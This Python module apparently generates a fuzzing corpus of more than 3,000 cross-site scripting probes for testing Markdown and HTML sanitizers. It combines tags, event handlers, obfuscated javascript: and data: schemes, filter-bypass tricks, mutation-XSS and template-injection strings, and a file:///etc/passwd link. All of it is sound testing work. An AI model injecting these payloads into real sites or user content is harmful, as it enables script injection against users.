"""A corpus of hostile texts for every place where people write: tags × handlers × schemes × encodings × Markdown around them."""

from collections.abc import Iterator
from itertools import product

TAGS = [
    "script",
    "img",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "marquee",
    "a",
    "form",
    "button",
    "isindex",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "textarea",
    "title",
    "select",
    "option",
    "table",
    "xmp",
    "plaintext",
    "frameset",
    "applet",
    "bgsound",
    "keygen",
    "source",
    "track",
    "portal",
    "dialog",
]
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onpointerenter",
    "onanimationend",
    "onbegin",
    "oncut",
    "onpageshow",
    "onbeforeinput",
    "onscrollend",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    " \x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "\\u006aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "file:///etc/passwd",
    "blob:https://x/1",
    "//javascript:alert(1)",
    "javascript://%0aalert(1)",
    "jar:javascript:alert(1)",
    "livescript:alert(1)",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> 'title'",
    "[![x]({})]({})",
    "- > [x]({})",
    "| a |\n|---|\n| [x]({}) |",
    "## [x]({})",
    "*[x]({})*",
    "{}",
    '<a href="{}">x</a>',
    "<iframe src='{}'></iframe>",
    '<object data="{}">',
    '<form action="{}"><button>x',
    '<svg><a xlink:href="{}"><text>x',
    '<math href="{}">x',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '[x](y "\'><a href={}>")',
]
ELEMENTS = [
    "<{tag} {on}=alert(1)>",
    "<{tag} src=x {on}='alert(1)'>x</{tag}>",
    "<{tag}/{on}=alert(1)//",
    '"><{tag} {on}=alert(1) autofocus tabindex=1>',
]
AROUND = [
    "{}",
    "> {}",
    "- {}",
    "`{}`",
    "**{}**",
    "[{}](x)",
    "[x](y '{}')",
    "| {} |\n|---|\n| {} |",
    "# {}",
    "```{}\nx\n```",
    "::: note\n{}\n:::",
    "\\{}",
]
SPECIAL = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<a href=x onclick=alert(1)>x</a>",
    '[x](y"onmouseover=alert(1)//)',
    '[x](y" onmouseover="alert(1))',
    '![x" onerror="alert(1)](y)',
    '![x](y "z\\" onerror=\\"alert(1)")',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '|a"><img src=x onerror=alert(1)>|\n|---|\n|b|',
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}{% debug %}${7*7}<%= 7*7 %>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\ud800<script>alert(1)</script>",
]


def payloads() -> Iterator[str]:
    """Every text once, in the same order each time; more than 3,000."""
    seen: set[str] = set()
    for text in (*links(), *elements(), *wrapped()):
        if text not in seen:
            seen.add(text)
            yield text


def links() -> Iterator[str]:
    for link, scheme in product(LINKS, SCHEMES):
        yield link.replace("{}", scheme)


def elements() -> Iterator[str]:
    for element, tag, handler in product(ELEMENTS, TAGS, HANDLERS):
        yield element.format(tag=tag, on=handler)


def wrapped() -> Iterator[str]:
    lively = [
        element.format(tag=tag, on="onerror")
        for element, tag in product(ELEMENTS[:2], ["img", "svg", "script", "iframe"])
    ]
    for around, text in product(AROUND, [*SPECIAL, *lively, *SCHEMES]):
        yield around.replace("{}", text)
